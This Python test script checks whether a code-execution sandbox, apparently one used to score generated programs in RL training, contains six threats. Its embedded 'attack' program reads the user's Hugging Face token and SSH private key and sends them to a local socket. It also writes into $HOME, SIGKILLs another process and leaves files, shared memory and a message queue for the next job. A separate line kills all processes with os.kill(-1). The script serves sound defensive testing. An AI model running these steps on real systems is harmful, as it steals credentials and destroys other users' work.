"""The six threats of issue 40, tried by one generated program scored through the sandbox, as whoever runs this.

Run by tests/sandbox/test_host_kinds.py inside each host kind (a normal uid; a container-like root). The program, whose
function is correct, tries to: read ``~/.cache/huggingface/token`` and ``~/.ssh/id_rsa``, send them to a socket of
the user's on this machine (a unix socket and a TCP port on 127.0.0.1), write into ``$HOME``, kill another process
of the same user, and leave files, a SysV shared memory segment and a POSIX message queue for the next job. What
held is checked from outside (the listener's bytes, the victim's life, the host's files), and what the next job
sees by the score of a program that answers right only when nothing was left for it. Prints one JSON object.
"""

from __future__ import annotations

import json
import os
import select
import signal
import socket
import subprocess
import sys
import threading
import time

from grpo_fast import sandbox as sb

# Where a job may leave an answer for the next: the world-writable directories, and the root itself (a normal user's
# minimal root is a tmpfs of the user's own: writable unless made read-only)
LEFT = ("/tmp", "/var/tmp", "/dev/shm", "")
TAG = os.urandom(4).hex()  # this run's names: an earlier run's leftovers (a weaker level's) are not this run's
ANSWER = f"/grpo_sbx_answer_{TAG}"
MARK = f"/grpo_sbx_was_here_{TAG}"
SHM_KEY = int(TAG, 16) & 0x7FFFFFFF
MQ_NAME = f"/grpo_sbx_answer_{TAG}"

IPC = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
try:
    rt = ctypes.CDLL("librt.so.1", use_errno=True)
except OSError:
    rt = libc
"""


def _listen(received: list[bytes], stop: threading.Event) -> tuple[str, int]:
    path = f"/tmp/grpo_sbx_listen_{os.getpid()}.sock"
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(path)
    os.chmod(path, 0o777)
    unix.listen(8)
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)

    def serve() -> None:
        while not stop.is_set():
            for s in select.select([unix, tcp], [], [], 0.1)[0]:
                conn, _ = s.accept()
                conn.settimeout(1)
                try:
                    received.append(conn.recv(1 << 16) or b"(connected)")
                except OSError:
                    received.append(b"(connected)")
                conn.close()

    threading.Thread(target=serve, daemon=True).start()
    return path, tcp.getsockname()[1]


def main(kill_all: bool = True) -> dict:
    home = os.path.expanduser("~")
    received: list[bytes] = []
    stop = threading.Event()
    path, port = _listen(received, stop)
    victim = subprocess.Popen(["sleep", "300"])
    secrets = [open(os.path.join(home, p)).read() for p in (".cache/huggingface/token", ".ssh/id_rsa")]
    attack = IPC + f"""
import signal, socket
stolen = ""
for p in ("/.cache/huggingface/token", "/.ssh/id_rsa"):
    for h in ({home!r}, os.path.expanduser("~")):
        try:
            stolen += open(h + p).read()
        except Exception:
            pass
print(stolen)
for fam, addr in ((socket.AF_UNIX, {path!r}), (socket.AF_INET, ("127.0.0.1", {port}))):
    try:
        s = socket.socket(fam)
        s.settimeout(0.5)
        s.connect(addr)
        s.sendall(stolen.encode() or b"no secret, but connected")
        s.close()
    except Exception:
        pass
for h in ({home!r}, os.path.expanduser("~")):
    try:
        open(h + {MARK!r}, "w").write("x")
    except Exception:
        pass
try:
    os.kill({victim.pid}, signal.SIGKILL)
except Exception:
    pass
for d in {LEFT!r}:
    try:
        open(d + {ANSWER!r}, "w").write("42")
    except Exception:
        pass
libc.shmget({SHM_KEY}, 4096, 0o1000 | 0o666)
rt.mq_open({MQ_NAME.encode()!r}, os.O_CREAT | os.O_RDWR, 0o666, None)
def f(x):
    return x + 1
"""
    leftovers = IPC + f"""
seen = [d for d in {LEFT!r} if os.path.exists(d + {ANSWER!r})]
seen += ["shm"] if libc.shmget({SHM_KEY}, 0, 0) >= 0 else []
seen += ["mq"] if rt.mq_open({MQ_NAME.encode()!r}, os.O_RDONLY, 0, None) >= 0 else []
print(seen)
def f(x):
    return x + 1 if not seen else 0
"""
    killer_program = ("import os, signal\nfor s in (signal.SIGKILL, signal.SIGSTOP):\n    try:\n"
                      "        os.kill(-1, s)\n    except OSError:\n        pass\ndef f(x):\n    return x + 1")
    honest = "def f(x):\n    return x + 1"
    tests = ["assert f(1) == 2", "assert f(41) == 42"]
    box = sb.Sandbox(workers=1)  # one slot: the next job is that slot's next job, as in a long run
    try:
        level, layers = box.level(), box.layers()
        zygote = box.pid
        first = box.run_many([sb.make_job(attack, tests, timeout=5)])[0]
        time.sleep(0.3)
        after = box.run_many([sb.make_job(leftovers, tests, timeout=5) for _ in range(2)])
        killer = box.run_many([sb.make_job(killer_program if kill_all else honest, tests, timeout=5)])[0]
        time.sleep(0.2)
        healthy = box.run_many([sb.make_job(honest, tests, timeout=5) for _ in range(4)])
        alive = box.pid == zygote
    finally:
        box.close()
        stop.set()
        os.remove(path)
    victim_alive = victim.poll() is None
    victim.kill()
    host_left = [d for d in LEFT if os.path.exists(d + ANSWER)]
    out = first.stdout + first.stderr
    home_written = os.path.exists(home + MARK)
    _clean([d + ANSWER for d in LEFT] + [home + MARK])
    return {"level": level, "layers": layers, "attack_score": first.fraction, "attack_status": first.status,
            "threats": {"token read": secrets[0] in out, "ssh key read": secrets[1] in out,
                        "sent to a local socket": bool(received),
                        "wrote into $HOME": home_written,
                        "killed a process of the user": not victim_alive,
                        "left state for the next job": any(r.fraction < 1 for r in after) or bool(host_left)},
            "next_job": [r.fraction for r in after], "next_job_saw": [r.stdout.strip() for r in after],
            "host_tmp_left": host_left, "killer_score": killer.fraction,
            "honest_after": [r.fraction for r in healthy], "same_pool": alive}


def _clean(paths: list[str]) -> None:
    """What a weaker level let the attack leave on the host: this run's files, segment and queue."""
    import ctypes

    for path in paths:
        try:
            os.remove(path)
        except OSError:
            pass
    libc = ctypes.CDLL(None, use_errno=True)
    shm = libc.shmget(SHM_KEY, 0, 0)
    if shm >= 0:
        libc.shmctl(shm, 0, None)  # IPC_RMID
    try:
        ctypes.CDLL("librt.so.1").mq_unlink(MQ_NAME.encode())
    except OSError:
        pass


if __name__ == "__main__":
    signal.signal(signal.SIGPIPE, signal.SIG_DFL)
    print(json.dumps(main(kill_all="--no-kill-all" not in sys.argv)))  # without it: a weak level's threat table
